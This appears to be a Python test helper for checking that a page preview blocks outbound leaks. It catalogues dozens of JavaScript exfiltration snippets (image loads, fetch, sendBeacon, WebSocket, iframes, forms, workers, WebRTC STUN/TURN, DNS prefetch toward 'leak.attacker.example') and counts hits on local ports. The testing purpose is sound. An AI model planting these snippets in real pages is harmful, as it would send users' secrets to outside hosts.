"""The world outside the server under test: a port for every way out, each of which counts who comes.

A connection counts before a byte is read, so a browser that only opens one (a preconnect) is caught too. `page` tries every
way there is; `MOVES` are those that would take its frame away and are tried one by one.
"""

import http.server
import json
import re
import selectors
import socket
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

NAME = "leak.attacker.example"

# What a page may try without leaving; `{url}` is http://ADDRESS, `{host}` ADDRESS:PORT.
WAYS = {
    "image": "make('img', {{src: '{url}/secret'}})",
    "picture set": "make('img', {{srcset: '{url}/secret 1x'}})",
    "svg image": "put('<svg><image href=\"{url}/secret\"></image></svg>')",
    "video": "make('video', {{src: '{url}/secret', autoplay: true, preload: 'auto'}})",
    "audio": "make('audio', {{src: '{url}/secret', autoplay: true, preload: 'auto'}})",
    "style address": "put('<p style=\"background:url({url}/secret)\">x</p>')",
    "style import": "put('<style>@import \"{url}/secret\";</style>')",
    "style font": "put('<style>@font-face{{font-family:f;src:url({url}/secret)}} i{{font-family:f}}</style><i>x</i>')",
    "style sheet": "make('link', {{rel: 'stylesheet', href: '{url}/secret'}})",
    "link prefetch": "make('link', {{rel: 'prefetch', href: '{url}/secret'}})",
    "link preload": "make('link', {{rel: 'preload', as: 'image', href: '{url}/secret'}})",
    "link modulepreload": "make('link', {{rel: 'modulepreload', href: '{url}/secret'}})",
    "link preconnect": "make('link', {{rel: 'preconnect', href: '{url}'}})",
    "link preconnect with credentials": "make('link', {{rel: 'preconnect', crossOrigin: 'use-credentials', href: '{url}'}})",
    "link dns-prefetch and connect": "make('link', {{rel: 'dns-prefetch preconnect', href: '{url}'}})",
    "script": "make('script', {{src: '{url}/secret'}})",
    "module": "import('{url}/secret')",
    "fetch": "fetch('{url}/secret', {{mode: 'no-cors', method: 'POST', body: 'secret'}})",
    "fetch that outlives": "fetch('{url}/secret', {{mode: 'no-cors', keepalive: true}})",
    "request": "const asked = new XMLHttpRequest(); asked.open('GET', '{url}/secret'); asked.send()",
    "beacon": "navigator.sendBeacon('{url}/secret', 'secret')",
    "event source": "new EventSource('{url}/secret')",
    "socket": "new WebSocket('ws://{host}/secret')",
    "frame": "make('iframe', {{src: '{url}/secret'}})",
    "frame inside": "make('iframe', {{srcdoc: '<img src={url}/secret>'}})",
    "frame that fetches": "make('iframe', {{srcdoc: '<script>fetch(`{url}/secret`,{{mode:`no-cors`}})<' + '/script>'}})",
    "frame that moves": "make('iframe', {{srcdoc: '<meta http-equiv=refresh content=\"0;url={url}/secret\">'}})",
    "frame of an address": "make('iframe', {{src: 'data:text/html,<img src={url}/secret>'}})",
    "object": "make('object', {{data: '{url}/secret'}})",
    "embed": "make('embed', {{src: '{url}/secret'}})",
    "form in a new window": "post('{url}/secret', '_blank')",
    "form in a frame": "put('<iframe name=inner></iframe>'); post('{url}/secret', 'inner')",
    "window": "open('{url}/secret')",
    "link in a new window": "click('{url}/secret', {{target: '_blank'}})",
    "link that tells": "click('#here', {{ping: '{url}/secret'}})",
    "worker": 'work(\'fetch("{url}/secret", {{mode: "no-cors"}})\')',
    "worker that imports": "work('importScripts(\"{url}/secret\")')",
    "call over tcp": "call('turn:{host}?transport=tcp')",
    "call over udp": "call('stun:{host}')",
}
# What would end the page: each is tried on a page of its own.
MOVES = {
    "address": "location.href = '{url}/secret'",
    "address in place": "location.replace('{url}/secret')",
    "refresh": "make('meta', {{httpEquiv: 'refresh', content: '0;url={url}/secret'}}, document.head)",
    "form": "post('{url}/secret', '_self')",
    "link": "click('{url}/secret', {{}})",
    "window above": "top.location = '{url}/secret'",
    "form above": "post('{url}/secret', '_top')",
    "parent": "open('{url}/secret', '_parent')",
}
# A page by itself has nothing above it.
NESTED = {"window above", "form above", "parent"}
# Ends a browser of today that knows the list of nobody, which is why it is tried last and alone.
CALL_FROM_FRAME = "call from a frame"
LAST = {
    CALL_FROM_FRAME: "make('iframe', {{srcdoc: '<script>' + call + ';call(`turn:{host}?transport=tcp`)<' + '/script>'}})",
}
TOOLS = """
function make(name, values, where = document.body) {
  const made = Object.assign(document.createElement(name), values);
  where.append(made);
  return made;
}
const put = (html) => document.body.insertAdjacentHTML('beforeend', html);
const click = (href, values) => make('a', {href, textContent: 'x', ...values}).click();
function post(action, target) {
  const form = make('form', {action, target, method: 'post'});
  form.append(Object.assign(document.createElement('input'), {name: 'secret', value: 'secret'}));
  form.submit();
}
const work = (text) => new Worker(URL.createObjectURL(new Blob([text], {type: 'text/javascript'})));
function call(urls) {
  const made = new RTCPeerConnection({iceServers: [{urls, username: 'secret', credential: 'x'}]});
  made.createDataChannel('x');
  made.createOffer().then((offer) => made.setLocalDescription(offer));
}
"""
# Ways that only ask for a name, which no port sees; the browser's own log of its network does.
NAMED = {"prefetched", "called"}
NAMES = f"""
make('link', {{rel: 'dns-prefetch', href: '//prefetched.{NAME}'}});
try {{ call('stun:called.{NAME}'); }} catch {{}}
"""


class Outside:
    """Ports of this machine that stand for foreign servers; `came` names those that anybody reached."""

    def __init__(self, names: list[str]) -> None:
        self.came: set[str] = set()
        self.ports: dict[str, int] = {}
        self._selector = selectors.DefaultSelector()
        self._sockets: list[socket.socket] = []
        for name in names:
            self._listen(name)

    def _listen(self, name: str) -> None:
        tcp = socket.create_server(("127.0.0.1", 0), backlog=16)
        self.ports[name] = tcp.getsockname()[1]
        udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        udp.bind(("127.0.0.1", self.ports[name]))
        for one in (tcp, udp):
            one.setblocking(False)
            self._selector.register(one, selectors.EVENT_READ, name)
            self._sockets.append(one)

    def watch(self, over: threading.Event) -> None:
        """Count who comes until `over`; nobody is answered."""
        while not over.is_set():
            for key, _ in self._selector.select(0.1):
                self.came.add(key.data)
                if key.fileobj.type == socket.SOCK_STREAM:  # type: ignore[union-attr]
                    key.fileobj.accept()[0].close()  # type: ignore[union-attr]
                else:
                    key.fileobj.recvfrom(2048)  # type: ignore[union-attr]

    def close(self) -> None:
        self._selector.close()
        for one in self._sockets:
            one.close()

    def alone(self, name: str) -> str:
        """A script that tries this one way out, for a page that has nothing of ours."""
        return f"(async () => {{ {TOOLS} {self.script(name, {**WAYS, **MOVES, **LAST}[name])} }})()"

    def script(self, name: str, way: str) -> str:
        """The script that tries this way out, with the tools at hand."""
        host = f"127.0.0.1:{self.ports[name]}"
        return way.format(url=f"http://{host}", host=host)

    def page(self) -> str:
        """A page that tries every way that does not end it, and then says so."""
        tries = [
            f"try {{ await (async () => {{ {self.script(name, way)} }})() }}"
            f" catch (error) {{ tried[{json.dumps(name)}] = String(error) }}"
            for name, way in WAYS.items()
        ]
        return (
            "<!doctype html><title>preview</title><p id=here>the page is shown</p>"
            f"<script>{TOOLS}\n(async () => {{ const tried = {{}};\n{chr(10).join(tries)}\n{NAMES}\n"
            "document.getElementById('here').dataset.tried = JSON.stringify(tried) })()</script>"
        )


@contextmanager
def outside() -> Iterator[Outside]:
    """The world outside while the context lasts."""
    world, over = Outside([*WAYS, *MOVES, *LAST]), threading.Event()
    watching = threading.Thread(target=world.watch, args=(over,), daemon=True)
    watching.start()
    try:
        yield world
    finally:
        over.set()
        watching.join(5)
        world.close()


@contextmanager
def plain_site(page: str) -> Iterator[str]:
    """The address of a site that serves the page without any fence."""

    class Plain(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("content-type", "text/html; charset=utf-8")
            self.end_headers()
            self.wfile.write(page.encode())

        def log_message(self, *words: object) -> None:
            pass

    site = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Plain)
    threading.Thread(target=site.serve_forever, daemon=True).start()
    try:
        yield f"http://127.0.0.1:{site.server_port}/"
    finally:
        site.shutdown()
        site.server_close()


def names_asked(log: Path) -> set[str]:
    """Which of the foreign names the browser's log of its network speaks of."""
    return set(re.findall(rf"([a-z]+)\.{re.escape(NAME)}", log.read_text("utf-8", "replace")))
